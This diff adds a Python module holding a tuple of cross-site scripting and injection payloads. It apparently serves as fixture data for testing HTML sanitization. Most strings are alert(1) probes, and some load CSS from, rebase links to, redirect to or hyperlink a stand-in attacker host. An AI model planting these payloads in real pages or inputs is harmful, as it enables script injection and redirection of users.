@@ -1,0 +1,28 @@
+"""Text that a careless page would run."""
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "'-alert(1)-'",
+    "javascript:alert(1)",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "<!--<script>alert(1)//-->",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "]]><script>alert(1)</script>",
+    "\u2028alert(1)\u2029",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    "<base href='http://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "\x00<script>alert(1)</script>",
+    '=HYPERLINK("http://evil.example")',
+)
